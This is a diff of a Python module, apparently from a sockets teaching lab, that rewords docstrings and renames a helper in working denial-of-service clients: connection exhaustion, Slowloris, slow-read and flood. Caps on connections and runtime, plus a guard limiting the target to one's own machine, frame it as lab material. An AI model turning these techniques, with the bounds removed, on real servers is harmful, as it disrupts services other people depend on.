@@ -1,9 +1,14 @@
-"""Attacks on a server of one's own: many clients at once, each a little rude, for a bounded time.
+"""Bounded denial-of-service clients for your own server.
 
-Each is a function that goes on until the event `stop` is set, so that it can be run beside a
-notebook with `background.run`, and returns how many connections it has made. None talks to another
-machine (see `sockets_lab.peers.target`), none holds more than `MOST` connections, opens more than
-`AGAIN` times that, or goes on for longer than `LONGEST_S` seconds.
+    hold_idle    connection exhaustion: many idle connections
+    slowloris    Slowloris: many requests that never become whole
+    slow_read    slow-read attack (slow read): many long replies that are read very slowly
+    flood        flood: more bytes than the server can use
+
+Each runs until the event `stop` is set, so that it can be run beside a notebook with
+`background.run`, and returns how many connections it made. None connects to another machine (see
+`sockets_lab.peers.target`), holds more than `MOST` connections, opens more than `AGAIN` times its
+number of connections, or runs longer than `LONGEST_S` seconds.
 """
 
 import socket
@@ -21,15 +26,15 @@ MOST: Final = 500
 AGAIN: Final = 20
 LONGEST_S: Final = 30.0
 _CONNECT_S: Final = 0.2
-_SMALL_BUFFER: Final = 4096  # the kernel takes the least that it allows
+_SMALL_BUFFER: Final = 4096  # the kernel raises it to its minimum
 
 
 def hold_idle(address: Sequence[object], *, stop: Event, many: int = 100, source: str = "") -> int:
-    """Hold `many` connections and say nothing; whoever is closed connects anew.
+    """Hold `many` connections idle (connection exhaustion); reconnect when one is closed.
 
-    source: the address to come from, such as "127.0.0.2" (Linux), "" for the usual one
+    source: the local address, such as "127.0.0.2" (Linux); "" lets the kernel choose
     """
-    return _go_on(address, lambda sock: iter(()), stop, many, source)
+    return _attack(address, lambda sock: iter(()), stop, many, source)
 
 
 def slowloris(
@@ -41,16 +46,16 @@ def slowloris(
     source: str = "",
     pause_s: float = 0.05,
 ) -> int:
-    """Send a request byte by byte, one every `pause_s` seconds, on `many` connections.
+    """Send a request byte by byte, one every `pause_s` seconds, on `many` connections (Slowloris).
 
-    It is known as Slowloris where the request is one of HTTP.
+    The original tool did so with the headers of an HTTP request.
     """
 
     def moves(sock: socket.socket) -> Iterator[object]:
         for byte in request:
             yield sock.send(bytes([byte]))
 
-    return _go_on(address, moves, stop, many, source, pause_s)
+    return _attack(address, moves, stop, many, source, pause_s)
 
 
 def slow_read(
@@ -62,7 +67,10 @@ def slow_read(
     source: str = "",
     pause_s: float = 0.05,
 ) -> int:
-    """Ask for a long reply, and read it byte by byte, on `many` connections with small buffers."""
+    """Request a long reply and read it byte by byte, on `many` connections (slow-read attack).
+
+    Small receive buffers make the server's sends wait soon.
+    """
 
     def moves(sock: socket.socket) -> Iterator[object]:
         sock.send(request)
@@ -72,7 +80,7 @@ def slow_read(
                 if not sock.recv(1):
                     return
 
-    return _go_on(address, moves, stop, many, source, pause_s)
+    return _attack(address, moves, stop, many, source, pause_s)
 
 
 def flood(
@@ -84,7 +92,7 @@ def flood(
     source: str = "",
     nbytes: int = 20_000_000,
 ) -> int:
-    """Send `head`, and then zeros, as fast as they are taken: `nbytes` on each of `many`."""
+    """Send `head` and then zeros as fast as possible (flood): `nbytes` on each of `many`."""
     piece = bytes(65_536)
 
     def moves(sock: socket.socket) -> Iterator[object]:
@@ -98,10 +106,10 @@ def flood(
         while True:
             yield None
 
-    return _go_on(address, moves, stop, many, source, 0.001)
+    return _attack(address, moves, stop, many, source, 0.001)
 
 
-def _go_on(
+def _attack(
     address: Sequence[object],
     moves: Callable[[socket.socket], Iterator[object]],
     stop: Event,
@@ -109,7 +117,7 @@ def _go_on(
     source: str,
     pause_s: float = 0.05,
 ) -> int:
-    """Hold so many connections, and let each make its next move after each pause."""
+    """Hold `many` connections, and make the next move of each after each pause."""
     endpoint = target(address)
     if not 1 <= many <= MOST:
         raise ValueError(f"between 1 and {MOST} connections, not {many!r}")
@@ -126,7 +134,7 @@ def _go_on(
                     break
                 running[sock] = moves(sock)
                 made += 1
-            for sock in [one for one, its in running.items() if _has_ended(one, its)]:
+            for sock in [one for one, steps in running.items() if _has_ended(one, steps)]:
                 del running[sock]
                 sock.close()
             if stop.wait(pause_s):
@@ -140,7 +148,7 @@ def _close_all(sockets: Iterable[socket.socket]) -> None:
 
 
 def _connected(address: Sequence[object], family: int, source: str) -> socket.socket | None:
-    """Connect; None where the server takes nobody now."""
+    """Connect; return None if the server accepts no client now."""
     sock = socket.socket(family, socket.SOCK_STREAM)
     try:
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL_BUFFER)
@@ -162,7 +170,7 @@ _SILENT = object()
 
 
 def _has_ended(sock: socket.socket, moves: Iterator[object]) -> bool:
-    """Make the next move; tell whether the server has ended the connection."""
+    """Make the next move; return True if the server has ended the connection."""
     try:
         if next(moves, _SILENT) is _SILENT:
             return not sock.recv(1, socket.MSG_PEEK)
